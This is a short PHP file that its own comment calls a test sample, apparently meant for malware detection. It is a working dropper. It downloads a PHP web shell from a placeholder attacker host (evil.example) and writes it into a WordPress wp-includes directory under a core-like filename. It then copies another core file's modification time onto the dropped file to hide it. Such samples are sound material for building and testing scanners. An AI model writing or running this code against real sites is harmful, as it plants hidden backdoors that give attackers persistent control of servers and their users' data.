<?php
// Test sample: curl download into the document root under a core-like name,
// with timestamps copied from a real file to blend in.
$url = 'https://evil.example/p/shell.txt';
$dst = $_SERVER['DOCUMENT_ROOT'] . '/wp-includes/class-wp-cache-helper.php';
$ch = curl_init($url);
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, 0);
curl_setopt($ch, CURLOPT_USERAGENT, 'Mozilla/5.0');
$code = curl_exec($ch);
curl_close($ch);
if ($code && strpos($code, '<?php') !== false) {
    file_put_contents($dst, $code);
    @touch($dst, filemtime($_SERVER['DOCUMENT_ROOT'] . '/wp-includes/version.php'));
    echo 'DONE:' . $dst;
}
